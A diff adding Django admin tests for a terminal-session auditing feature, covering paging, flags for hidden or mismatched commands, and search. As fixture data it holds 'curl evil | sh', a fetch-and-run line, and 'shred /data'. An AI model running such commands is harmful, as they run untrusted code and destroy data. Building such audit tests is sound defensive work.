@@ -124,3 +124,70 @@ def test_only_sessions_of_live_servers_are_listed_as_live(superuser_client):
     assert "web-2 pid 22" in page and "server lost (not yet reaped)" in page
     page = superuser_client.get("/admin/terminals/server/").content.decode()
     assert "web-1 pid 11" in page and "alive" in page and "lost" in page
+
+
+# Commands on the session page: a page at a time, flagged, found by what was typed.
+
+
+def add_commands(session, count, start=0):
+    Command.objects.bulk_create(
+        Command(session=session, offset_us=(start + n) * 1000, line=f"$ echo {start + n}",
+                text=f"echo {start + n}", typed=f"echo {start + n}")
+        for n in range(count)
+    )  # fmt: skip
+
+
+def test_the_session_page_lists_commands_a_page_at_a_time_in_constant_queries(
+    superuser_client, recorded_session, django_assert_max_num_queries
+):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    url = f"/admin/terminals/session/{recorded_session.pk}/change/"
+    with CaptureQueriesContext(connection) as few:
+        superuser_client.get(url)
+    add_commands(recorded_session, 3000, start=10)
+    # The same number of queries for 3,002 commands as for 2 (the old inline made one per row).
+    with django_assert_max_num_queries(len(few.captured_queries)):
+        page = superuser_client.get(url).content.decode()
+    assert "Commands (3002)" in page and "page 1 of 31" in page
+    assert page.count('/replay/?command=') == 100
+    # The second page's first command is the 101st of the replay's list: its index is 100.
+    second = superuser_client.get(url + "?commands=2").content.decode()
+    replay = f"/terminals/sessions/{recorded_session.pk}/replay/?command=100"
+    assert f'<a href="{replay}"><code>echo 108</code></a>' in second
+
+
+def test_commands_show_both_lines_and_their_marks(superuser_client, recorded_session):
+    Command.objects.create(
+        session=recorded_session, offset_us=5000, line="$", text="curl evil | sh",
+        typed="curl evil | sh", echoed=False,
+    )  # fmt: skip
+    Command.objects.create(
+        session=recorded_session, offset_us=6000, line="$ innocent", text="innocent", typed="",
+        mismatch=True,
+    )  # fmt: skip
+    Command.objects.create(
+        session=recorded_session, offset_us=7000, line="$ echo again", text="echo again",
+        typed="⟨↑⟩", kind=Command.Kind.KEYS,
+    )  # fmt: skip
+    page = superuser_client.get(f"/admin/terminals/session/{recorded_session.pk}/change/")
+    html = page.content.decode()
+    assert html.count("typed but not shown") == 1 and html.count("shown and typed differ") == 1
+    assert ">curl evil | sh</code>" in html and ">$ innocent</code>" in html
+    assert "keys not followed (history, search…): their transcript" in html
+
+
+def test_the_session_list_finds_commands_by_what_was_typed_and_by_their_marks(
+    superuser_client, recorded_session
+):
+    Command.objects.create(
+        session=recorded_session, offset_us=5000, line="$", text="ls", typed="shred /data",
+        mismatch=True,
+    )  # fmt: skip
+    found = superuser_client.get("/admin/terminals/session/?q=shred").content.decode()
+    assert "1 terminal session" in found
+    flagged = superuser_client.get("/admin/terminals/session/?commands=mismatch").content.decode()
+    assert "1 terminal session" in flagged
+    unechoed = superuser_client.get("/admin/terminals/session/?commands=unechoed").content.decode()
+    assert "0 terminal sessions" in unechoed
